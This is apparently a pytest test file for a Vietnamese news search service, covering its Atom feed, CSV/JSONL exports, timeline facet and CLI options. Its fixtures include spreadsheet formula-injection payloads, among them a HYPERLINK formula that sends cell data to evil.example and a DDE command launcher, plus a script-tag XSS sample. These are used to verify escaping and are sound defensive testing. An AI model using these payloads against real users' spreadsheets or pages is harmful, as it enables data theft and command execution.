"""Taking results away: the Atom feed, CSV/JSONL exports, the month timeline, and `timtin search` options."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from datetime import datetime
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from flask.testing import FlaskClient

from indexer.cli import main
from indexer.models import Article
from indexer.search import SearchRequest, search
from indexer.search.export import EXPORT_COLUMNS, spreadsheet_safe
from tests.helpers import PARTY_QUERY, VN, fixture_articles, get_json

N_PARTY = 14
HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1, "Bấm vào")', "+84 số điện thoại lạ", "-5 độ ở Sa Pa",
                  "@SUM(1+1) bảng tính", "\tTab đầu dòng"]


def feed_articles() -> list[Article]:
    """Articles of this module: formula-like titles and dates either side of a month's end in Vietnam time."""
    out = [Article(id=f"formula-{i}", title=t, body="Bảng tính độc hại trong tin nhắn.", source="=cmd|' /C calc'!A0",
                   category="Công nghệ", author="@người viết", published=datetime(2024, 5, 2 + i, 9, tzinfo=VN))
           for i, t in enumerate(HOSTILE_TITLES)]
    out += [
        # 23:30 on 31 January in Vietnam is 16:30 UTC: January; 00:30 on 1 February is still 31 January in UTC
        Article(id="giao-thua-1", title="Pháo hoa đêm cuối tháng", body="Pháo hoa rực rỡ trên sông Hàn.",
                source="Đà Nẵng", category="Đời sống", published=datetime(2024, 1, 31, 23, 30, tzinfo=VN)),
        Article(id="giao-thua-2", title="Pháo hoa rạng sáng đầu tháng", body="Pháo hoa rực rỡ trên sông Hương.",
                source="Huế", category="Đời sống", published=datetime(2024, 2, 1, 0, 30, tzinfo=VN)),
        Article(id="giao-thua-3", title="Pháo hoa chưa rõ ngày", body="Pháo hoa trong bài không có ngày.",
                source="Huế", category="Đời sống"),
    ]
    return out


@pytest.fixture(scope="module")
def web_articles() -> list[Article]:
    return fixture_articles() + feed_articles()


# -- the Atom feed ---------------------------------------------------------------------------------

def _feed(client: FlaskClient, query: str, **headers: str):
    return client.get("/feed.atom?" + query, headers=headers)


def test_feed_is_atom_with_the_newest_strong_matches(client: FlaskClient) -> None:
    feedparser = pytest.importorskip("feedparser")
    resp = _feed(client, "q=dai+hoi+dang")
    assert resp.status_code == 200 and resp.mimetype == "application/atom+xml"
    feed = feedparser.parse(resp.data)
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.title == "Tìm tin: dai hoi dang" and feed.feed.id.startswith("urn:uuid:")
    links = {link.rel: link.href for link in feed.feed.links}
    assert urlsplit(links["self"]).path == "/feed.atom" and "sort=newest" in links["alternate"]
    entries = feed.entries
    newest = search(SearchRequest(q=PARTY_QUERY, sort="newest", per_page=50), client.application.config["INDEX_DIR"])
    assert [e.link for e in entries] == [h.url for h in newest.hits] and len(entries) == N_PARTY
    dates = [e.updated_parsed for e in entries]
    assert dates == sorted(dates, reverse=True)
    first = entries[0]
    assert first.title.startswith("Đại hội Đảng bộ") and first.id.startswith("urn:uuid:")
    assert first.summary_detail.type == "text/html" and "Cà Mau lần thứ 21" in first.summary  # <mark>: sanitised
    assert first.author == "Phóng viên" and first.tags[0].term == "Chính trị"
    assert first.published == "2024-12-12T08:30:00+07:00"
    assert len({e.id for e in entries}) == len(entries)


def test_feed_takes_the_filters_and_leaves_out_weak_and_undated_matches(client: FlaskClient) -> None:
    feedparser = pytest.importorskip("feedparser")
    only = feedparser.parse(_feed(client, "q=dai+hoi+dang&source=VnExpress&from=2024-03-01").data).entries
    assert only and all(e.updated >= "2024-03-01" for e in only)
    assert len(only) == get_json(client, "/search?q=dai+hoi+dang&source=VnExpress&from=2024-03-01")["total"]
    # no article has both words: the search falls back to articles with one of them, the feed does not
    assert get_json(client, "/search?q=ph%C3%A1o+futsal")["total"] > 0
    assert feedparser.parse(_feed(client, "q=ph%C3%A1o+futsal").data).entries == []
    fireworks = feedparser.parse(_feed(client, "q=ph%C3%A1o+hoa").data).entries
    assert {e.link.rsplit("/", 1)[-1] for e in fireworks} == {"giao-thua-1", "giao-thua-2"}  # not the undated one
    # links to articles without a web address go to the article page; fields are escaped, not markup
    raw = _feed(client, "q=m%C3%A3+%C4%91%E1%BB%99c").data
    ElementTree.fromstring(raw)  # well-formed whatever the articles hold
    assert b"<script>" not in raw and b"&lt;script&gt;" in raw
    hostile = feedparser.parse(raw).entries
    assert hostile and urlsplit(hostile[0].link).path == "/articles/xss-1"
    assert "<script>" in hostile[0].title  # the text of the title, which feedparser unescaped once


def test_feed_revalidation_gives_304(client: FlaskClient) -> None:
    first = _feed(client, "q=dai+hoi+dang")
    etag, modified = first.headers["ETag"], first.headers["Last-Modified"]
    assert etag.startswith('"') and modified.endswith("GMT")
    assert _feed(client, "q=dai+hoi+dang", **{"If-None-Match": etag}).status_code == 304
    assert _feed(client, "q=dai+hoi+dang", **{"If-Modified-Since": modified}).status_code == 304
    again = _feed(client, "q=dai+hoi+dang", **{"If-None-Match": '"something-else"'})
    assert again.status_code == 200 and again.data == first.data and again.headers["ETag"] == etag
    other = _feed(client, "q=dai+hoi+dang&source=VnExpress", **{"If-None-Match": etag})
    assert other.status_code == 200 and other.headers["ETag"] != etag
    old = _feed(client, "q=dai+hoi+dang", **{"If-Modified-Since": "Mon, 01 Jan 2024 00:00:00 GMT"})
    assert old.status_code == 200


def test_feed_changes_when_the_index_does(tmp_path: Path) -> None:
    import webapp
    from indexer.store.index import write_articles

    write_articles(tmp_path, fixture_articles()[:3])
    client = webapp.create_app(str(tmp_path)).test_client()
    before = _feed(client, "q=dai+hoi+dang")
    assert _feed(client, "q=dai+hoi+dang", **{"If-None-Match": before.headers["ETag"]}).status_code == 304
    write_articles(tmp_path, fixture_articles()[3:5])
    after = _feed(client, "q=dai+hoi+dang", **{"If-None-Match": before.headers["ETag"]})
    assert after.status_code == 200 and after.data.count(b"<entry>") == before.data.count(b"<entry>") + 2


def test_feed_errors_are_json(client: FlaskClient) -> None:
    assert get_json(client, "/feed.atom", 400)["error"]["code"] == "missing_parameter"
    assert get_json(client, "/feed.atom?q=x&from=2024-02-30", 400)["error"]["code"] == "invalid_parameter"


# -- exports ---------------------------------------------------------------------------------------

def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_has_every_result_in_order(client: FlaskClient) -> None:
    resp = client.get("/search.csv?q=dai+hoi+dang&sort=newest&per_page=3")
    assert resp.status_code == 200 and resp.mimetype == "text/csv" and resp.mimetype_params["charset"] == "utf-8"
    assert resp.data.startswith(b"\xef\xbb\xbfid,title,url,source,category,author,published,region,score\r\n")
    rows = _csv_rows(resp.data)
    api = get_json(client, "/search?q=dai+hoi+dang&sort=newest&per_page=100")["results"]
    assert [r["id"] for r in rows] == [h["id"] for h in api] and len(rows) == N_PARTY  # per_page: not for exports
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert rows[0]["title"] == api[0]["title"] and rows[0]["published"] == api[0]["published"]
    assert rows[0]["region"] in ("Miền Bắc", "Miền Trung") and float(rows[0]["score"]) > 0
    limited = _csv_rows(client.get("/search.csv?q=dai+hoi+dang&sort=newest&limit=4").data)
    assert [r["id"] for r in limited] == [r["id"] for r in rows[:4]]


def test_jsonl_export(client: FlaskClient) -> None:
    resp = client.get("/search.jsonl?q=dai+hoi+dang&category=Ch%C3%ADnh+tr%E1%BB%8B")
    assert resp.status_code == 200 and resp.mimetype == "application/x-ndjson"
    text = resp.get_data(as_text=True)
    assert "\\u" not in text and "Đại hội" in text
    rows = [json.loads(line) for line in text.splitlines()]
    api = get_json(client, "/search?q=dai+hoi+dang&category=Ch%C3%ADnh+tr%E1%BB%8B&per_page=100")
    assert [r["id"] for r in rows] == [h["id"] for h in api["results"]] and len(rows) == api["total"] == 7
    assert all(list(r) == list(EXPORT_COLUMNS) and isinstance(r["region"], list) for r in rows)
    undated = [json.loads(line) for line in client.get("/search.jsonl?q=benh+vien").get_data(as_text=True).splitlines()]
    assert undated[0]["id"] == "health-1" and undated[0]["published"] is None


def test_export_file_names(client: FlaskClient) -> None:
    resp = client.get("/search.csv?q=%C4%91%E1%BA%A1i+h%E1%BB%99i+%C4%90%E1%BA%A3ng")
    disposition = resp.headers["Content-Disposition"]
    m = re.fullmatch(r'attachment; filename="([^"]+)"; filename\*=UTF-8\'\'(\S+)', disposition)
    assert m, disposition
    assert m.group(1) == "timtin-dai-hoi-dang.csv" and m.group(1).isascii()
    assert unquote(m.group(2)) == "timtin-đại-hội-đảng.csv"
    odd = client.get('/search.jsonl?q=%22%2F..%2F%3Bx%3D%5C%22').headers["Content-Disposition"]
    assert odd.startswith('attachment; filename="timtin-x.jsonl"'), odd


def test_csv_cells_cannot_become_formulas(client: FlaskClient) -> None:
    rows = _csv_rows(client.get("/search.csv?q=b%E1%BA%A3ng+t%C3%ADnh").data)
    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        for column in ("title", "source", "author"):
            assert row[column][0] not in "=+-@\t\r", row
            assert row[column].startswith("'")
        assert row["title"][1:] in HOSTILE_TITLES
    assert spreadsheet_safe("Hà Nội") == "Hà Nội" and spreadsheet_safe("-") == "'-"
    # JSON Lines is for programs: exact text
    lines = client.get("/search.jsonl?q=b%E1%BA%A3ng+t%C3%ADnh").get_data(as_text=True).splitlines()
    assert sorted(json.loads(line)["title"] for line in lines) == sorted(HOSTILE_TITLES)


def test_export_errors_are_json(client: FlaskClient) -> None:
    for url in ("/search.csv", "/search.jsonl?q=x&limit=0", "/search.csv?q=x&limit=10001",
                "/search.csv?q=x&region=Atlantis", "/search.jsonl?q=x&sort="):
        body = get_json(client, url, 400)
        assert body["error"]["code"] in ("missing_parameter", "invalid_parameter"), url


# -- the page links them ---------------------------------------------------------------------------

def test_results_page_links_the_feed_and_the_csv(client: FlaskClient) -> None:
    page = client.get("/?q=dai+hoi+dang&source=VnExpress&sort=newest&per_page=5&page=2").get_data(as_text=True)
    alternate = re.search(r'<link rel="alternate" type="application/atom\+xml" title="[^"]*" href="([^"]+)">', page)
    assert alternate
    feed_url = alternate.group(1).replace("&amp;", "&")
    assert parse_qs(urlsplit(feed_url).query) == {"q": ["dai hoi dang"], "source": ["VnExpress"]}
    assert re.search(r'<a class="feed" href="/feed\.atom\?[^"]+"[^>]*>Theo dõi', page)
    csv_link = re.search(r'<a class="csv" href="(/search\.csv\?[^"]+)" download>Tải về CSV', page)
    assert csv_link
    assert parse_qs(urlsplit(csv_link.group(1).replace("&amp;", "&")).query) == {
        "q": ["dai hoi dang"], "sort": ["newest"], "source": ["VnExpress"]}
    assert client.get(csv_link.group(1).replace("&amp;", "&")).status_code == 200
    assert client.get(feed_url).status_code == 200


# -- the timeline ----------------------------------------------------------------------------------

def test_month_facet_in_vietnam_time(client: FlaskClient) -> None:
    months = get_json(client, "/search?q=ph%C3%A1o+hoa")["facets"]["month"]
    assert months == [{"value": "2024-01", "count": 1}, {"value": "2024-02", "count": 1}]  # the undated one: none
    party = get_json(client, "/search?q=dai+hoi+dang&from=2024-03-01&to=2024-03-31")
    assert party["total"] == 1
    assert sum(m["count"] for m in party["facets"]["month"]) == N_PARTY  # its own filter (dates) is not applied
    assert [m["value"] for m in party["facets"]["month"]] == [f"2024-{m:02d}" for m in range(1, 13)]
    filtered = get_json(client, "/search?q=dai+hoi+dang&source=VnExpress")["facets"]["month"]
    assert sum(m["count"] for m in filtered) == get_json(client, "/search?q=dai+hoi+dang&source=VnExpress")["total"]


def _bars(page: str) -> list[tuple[str, str | None, str]]:
    """(class of the fill or '', link, screen-reader text) of each bar of the chart."""
    chart = page[page.index('<figure class="timeline"'):page.index("</figure>")]
    out = []
    for li in re.findall(r"<li[^>]*>(.*?)</li>", chart, re.S):
        link = re.search(r'<a class="col" href="([^"]+)"', li)
        fill = re.search(r'class="fill (h\d+)"', li)
        text = re.search(r'class="visually-hidden">([^<]+)<', li)
        assert text
        out.append((fill.group(1) if fill else "", link.group(1).replace("&amp;", "&") if link else None,
                    text.group(1)))
    return out


def test_timeline_chart_on_the_results_page(client: FlaskClient) -> None:
    page = client.get("/?q=dai+hoi+dang").get_data(as_text=True)
    bars = _bars(page)
    assert len(bars) == 12 and all(link for _, link, _ in bars)  # January to December 2024, every one a link
    assert bars[0] == ("h20", "/?q=dai+hoi+dang&from=2024-01-01&to=2024-01-31", "Tháng 1/2024: 2 bài")
    assert bars[2][0] == "h10" and bars[1][1].endswith("from=2024-02-01&to=2024-02-29")
    assert "<script" not in page[page.index('<figure class="timeline"'):]
    # a bar's link filters to its month; the chart keeps every month and marks the chosen one
    chosen = client.get(bars[1][1]).get_data(as_text=True)
    assert 'aria-current="true"' in chosen and _bars(chosen)[1][0] == "h20" and len(_bars(chosen)) == 12
    assert get_json(client, "/search?" + bars[1][1][2:])["total"] == 2


def test_timeline_window_and_gaps(client: FlaskClient) -> None:
    # "tin" matches articles from December 2022 to December 2024: 24 months, the empty ones kept as gaps
    everything = client.get("/?q=" + "+OR+".join(["ban", "dai", "bao", "gia", "ngan", "doi", "hoc", "ma", "phao"]))
    bars = _bars(everything.get_data(as_text=True))
    assert len(bars) == 24 and any(link is None for _, link, _ in bars)
    assert all(text.endswith("không có bài") for _, link, text in bars if link is None)
    assert bars[-1][2].startswith("Tháng 12/2024")
    page = everything.get_data(as_text=True)
    more = re.search(r'<p class="timeline-more wide"><a href="([^"]+)">(\d+) bài trước tháng 1/2023</a>', page)
    assert more and "to=2022-12-31" in more.group(1)
    back = _bars(client.get(more.group(1).replace("&amp;", "&")).get_data(as_text=True))
    assert back[-1][2].startswith("Tháng 12/2022")
    assert "timeline" not in client.get("/?q=benh+vien").get_data(as_text=True)  # nothing dated: no chart


# -- the command line ------------------------------------------------------------------------------

def test_cli_search_filters_sorts_and_formats(web_index: Path, capsys: pytest.CaptureFixture) -> None:
    def run(*args: str) -> str:
        assert main(["search", PARTY_QUERY, "--index", str(web_index), *args]) == 0
        return capsys.readouterr().out

    data = json.loads(run("--json", "--source", "VnExpress", "--source", "Tuổi Trẻ", "--sort", "newest"))
    assert "\\u" not in run("--json") and data["total"] == 9
    assert {h["source"] for h in data["results"]} == {"VnExpress", "Tuổi Trẻ"}
    dates = [h["published"] for h in data["results"]]
    assert dates == sorted(dates, reverse=True)
    rows = [json.loads(line) for line in run("--format", "jsonl", "--category", "Chính trị", "--from", "2024-03-01",
                                              "--to", "2024-10-31", "--limit", "100").splitlines()]
    assert rows and all(r["category"] == "Chính trị" and "2024-03" <= r["published"][:7] <= "2024-10" for r in rows)
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    table = list(csv.DictReader(io.StringIO(run("--format", "csv", "--region", "Miền Bắc", "--limit", "3",
                                                "--page", "2", "--sort", "oldest"))))
    oldest = json.loads(run("--format", "json", "--region", "Miền Bắc", "--limit", "6", "--sort", "oldest"))
    assert [r["id"] for r in table] == [h["id"] for h in oldest["results"][3:6]]
    text = run("--source", "Nhân Dân")
    assert text.startswith("5 results")
    assert run("--region", "bac kan").startswith("0 results")  # a former province's name, as the API takes it


@pytest.mark.parametrize("args", [["--region", "Atlantis"], ["--from", "2024-13-01"], ["--limit", "0"],
                                  ["--from", "2024-05-02", "--to", "2024-05-01"], ["--format", "xml"],
                                  ["--page", "101", "--limit", "100"]])
def test_cli_search_bad_options(web_index: Path, args: list[str], capsys: pytest.CaptureFixture) -> None:
    try:
        status = main(["search", PARTY_QUERY, "--index", str(web_index), *args])
    except SystemExit as e:  # argparse
        status = e.code
    assert status == 2
    assert capsys.readouterr().err.strip()


def test_exports_and_timeline_fit_the_openapi_document(client: FlaskClient) -> None:
    validator_cls = pytest.importorskip("openapi_schema_validator").OAS31Validator
    spec = get_json(client, "/openapi.json")
    row = validator_cls({"$ref": "#/components/schemas/ExportRow", "components": spec["components"]})
    lines = client.get("/search.jsonl?q=b%C3%A3o+OR+ph%C3%A1o+OR+b%E1%BB%87nh").get_data(as_text=True).splitlines()
    assert len(lines) > 3
    for line in lines:
        assert not [e.message for e in row.iter_errors(json.loads(line))]
    search = validator_cls({"$ref": "#/components/schemas/SearchResponse", "components": spec["components"]})
    body = get_json(client, "/search?q=ph%C3%A1o+hoa")
    assert body["facets"]["month"] and not [e.message for e in search.iter_errors(body)]
    bad = {**body, "facets": {**body["facets"], "month": [{"value": "2024-13", "count": 1}]}}
    assert list(search.iter_errors(bad))  # the schema does check the months
    feed = spec["paths"]["/feed.atom"]["get"]
    assert {"200", "304", "400", "414", "503"} <= set(feed["responses"])
    assert "application/atom+xml" in feed["responses"]["200"]["content"]
    csv_op = spec["paths"]["/search.csv"]["get"]
    assert "Content-Disposition" in csv_op["responses"]["200"]["headers"]


def test_months_before_1970_and_undated_articles(tmp_path: Path) -> None:
    from indexer.store.index import write_articles

    write_articles(tmp_path, [
        Article(id="a", title="Bão năm xưa", body="Bão lớn.", published=datetime(1969, 12, 31, 23, tzinfo=VN)),
        Article(id="b", title="Bão đầu năm", body="Bão nhỏ.", published=datetime(1970, 1, 1, 0, 30, tzinfo=VN)),
        Article(id="c", title="Bão không ngày", body="Bão."),
    ])
    months = search(SearchRequest(q="bão"), tmp_path).facets["month"]
    assert months == [{"value": "1969-12", "count": 1}, {"value": "1970-01", "count": 1}]
